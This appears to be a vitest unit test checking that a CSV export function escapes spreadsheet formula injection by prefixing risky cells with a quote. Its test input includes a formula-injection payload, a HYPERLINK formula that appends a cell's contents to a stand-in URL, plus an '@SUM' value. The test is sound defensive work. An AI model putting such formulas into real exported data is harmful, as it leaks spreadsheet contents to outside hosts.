import type { LineResult } from '@mcp-fleet/core';
import { expect, test } from 'vitest';
import { toCsv } from './results.ts';

test('an answer that a spreadsheet would take for a formula is a text in CSV', () => {
  const job = { id: 'job_1', answer: '=HYPERLINK("https://example.com?"&A1)', error: null, totals: null };
  const line = { n: 1, customId: '@SUM(A1)', state: 'succeeded', problem: null, job, reply: null };
  const [, customId, , answer] = toCsv([line as unknown as LineResult]).split(',');
  expect(customId).toBe("'@SUM(A1)");
  expect(answer).toMatch(/^"'=HYPERLINK/);
});
